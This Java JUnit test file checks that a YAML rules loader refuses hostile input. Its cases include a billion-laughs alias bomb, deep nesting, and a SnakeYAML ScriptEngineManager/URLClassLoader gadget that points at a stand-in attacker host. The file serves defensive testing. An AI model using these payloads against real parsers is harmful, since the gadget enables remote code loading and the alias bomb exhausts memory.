package io.homeport.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile rules files: refused with a clear, located problem, without constructing objects from
 * tags and without unbounded time or memory. The timeouts are hang guards, not speed targets.
 */
class RulesLoaderSecurityTest {

    static final Duration HANG_GUARD = Duration.ofSeconds(5);

    @TempDir
    Path dir;

    private List<Problem> refuse(String yaml) {
        return refuse(TestFiles.write(dir, "rules.yaml", yaml));
    }

    private List<Problem> refuse(Path file) {
        return assertTimeoutPreemptively(HANG_GUARD, () -> {
            InvalidRulesException e = catchThrowableOfType(InvalidRulesException.class, () -> new RulesLoader().load(file));
            assertThat(e).as("expected %s to be refused", file.getFileName()).isNotNull();
            return e.problems();
        });
    }

    @Test
    void billionLaughsIsRefused() {
        // Nine levels of ten aliases each: 10^9 strings if expanded.
        StringBuilder yaml = new StringBuilder("version: 1\nlol0: &lol0 lol\n");
        for (int level = 1; level <= 9; level++) {
            String previous = "*lol" + (level - 1);
            yaml.append("lol").append(level).append(": &lol").append(level).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(10, previous))).append("]\n");
        }

        assertThat(refuse(yaml.toString())).singleElement().satisfies(problem -> {
            assertThat(problem.line()).isEqualTo(1);
            assertThat(problem.message()).startsWith("refused YAML:").contains("aliases");
        });
    }

    @Test
    void recursiveAliasIsRefusedOrIgnoredQuickly() {
        // Three aliases only: far below the alias limit, but a cycle.
        List<Problem> problems = refuse("version: 1\nloop: &loop [*loop, *loop, *loop]\n");

        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("unknown key \"loop\""));
    }

    @Test
    void aliasFanOutOfATaggedScalarIsReportedOnce() {
        // 1,000 scalar aliases (not counted by SnakeYAML) times 4 levels of 10 collection aliases (40 < 50).
        StringBuilder yaml = new StringBuilder("version: 1\ns: &s !x payload\n");
        yaml.append("l0: &l0 [").append(String.join(",", java.util.Collections.nCopies(1_000, "*s"))).append("]\n");
        for (int level = 1; level <= 4; level++) {
            yaml.append("l").append(level).append(": &l").append(level).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(10, "*l" + (level - 1)))).append("]\n");
        }

        assertThat(refuse(yaml.toString())).singleElement()
                .satisfies(p -> assertThat(p.message()).startsWith("unsupported YAML tag !x"));
    }

    @Test
    void javaTypeTagIsRefusedNotInstantiated() {
        // The classic SnakeYAML gadget: constructing it would load classes from a remote URL.
        List<Problem> problems = refuse("""
                version: 1
                regions: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                residency: {default_region: us}
                """);

        assertThat(problems).singleElement().satisfies(problem -> {
            assertThat(problem.line()).isEqualTo(2);
            assertThat(problem.column()).isEqualTo(10);
            assertThat(problem.message()).contains("tag").contains("javax.script.ScriptEngineManager");
        });
    }

    @Test
    void localTagIsRefused() {
        assertThat(refuse("version: 1\nregions: !region {}\nresidency: {default_region: us}\n"))
                .extracting(Problem::toString)
                .containsExactly(dir.resolve("rules.yaml") + ":2:10: unsupported YAML tag !region (expected plain values, lists and mappings)");
    }

    @Test
    void mergeKeysAreRefused() {
        List<Problem> problems = refuse("""
                version: 1
                common: &common {endpoints: ["http://10.0.0.1:8080"]}
                regions:
                  us:
                    <<: *common
                residency: {default_region: us}
                """);

        assertThat(problems).singleElement().satisfies(problem -> {
            assertThat(problem.line()).isEqualTo(5);
            assertThat(problem.message()).contains("merge keys (<<) are not supported");
        });
    }

    @Test
    void fileOverFourMebibytesIsRefusedBeforeParsing() throws Exception {
        // Valid YAML (comments only): the size alone refuses it.
        byte[] bytes = new byte[(int) RulesLoader.MAX_FILE_BYTES + 1];
        Arrays.fill(bytes, (byte) '#');
        for (int i = 80; i < bytes.length; i += 81) {
            bytes[i] = '\n';
        }
        Path file = Files.write(dir.resolve("huge.yaml"), bytes);

        assertThat(refuse(file)).extracting(Problem::toString).containsExactly(
                file + ":1:1: file of 4194305 bytes (expected: at most 4194304)");
    }

    @Test
    void fileOfExactlyFourMebibytesIsRead() throws Exception {
        // The limit is inclusive: a 4 MiB file reaches the parser (and is then only empty).
        byte[] bytes = new byte[(int) RulesLoader.MAX_FILE_BYTES];
        Arrays.fill(bytes, (byte) '#');
        for (int i = 80; i < bytes.length; i += 81) {
            bytes[i] = '\n';
        }
        Path file = Files.write(dir.resolve("big.yaml"), bytes);

        assertThat(refuse(file)).singleElement()
                .satisfies(p -> assertThat(p.message()).startsWith("the file is empty"));
    }

    @Test
    void deepNestingIsRefused() {
        String deep = "[".repeat(200) + "]".repeat(200);

        assertThat(refuse("version: 1\nregions: " + deep + "\n")).singleElement()
                .satisfies(p -> assertThat(p.message()).startsWith("refused YAML:").containsIgnoringCase("nesting depth"));
    }

    @Test
    void deepBlockNestingIsRefused() {
        String deep = IntStream.range(0, 100).mapToObj(i -> " ".repeat(i) + "k" + i + ":").collect(Collectors.joining("\n"));

        assertThat(refuse(deep + " x\n")).singleElement()
                .satisfies(p -> assertThat(p.message()).containsIgnoringCase("nesting depth"));
    }

    @Test
    void nonUtf8IsRefused() throws Exception {
        Path file = Files.write(dir.resolve("latin1.yaml"), "version: 1\nregions: {m\u00fcnchen: {}}\n"
                .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));

        assertThat(refuse(file)).extracting(Problem::toString).containsExactly(file + ":1:1: not UTF-8 text");
    }

    @Test
    void aFewAliasesOfPlainValuesAreStillFine() {
        // Anchors are plain YAML; only their abuse is refused.
        RoutingRules rules = assertTimeoutPreemptively(HANG_GUARD, () -> TestFiles.loadValid(dir, "rules.yaml", """
                version: 1
                regions:
                  singapore: {endpoints: &sg ["http://10.2.0.10:8080"], fail_over_to: [us]}
                  us: {endpoints: ["http://10.3.0.10:8080"], fail_over_to: &none []}
                residency:
                  default_region: &home us
                  countries: {US: *home, SG: singapore}
                """));

        assertThat(rules.residency().countries()).containsEntry("US", "us");
    }
}
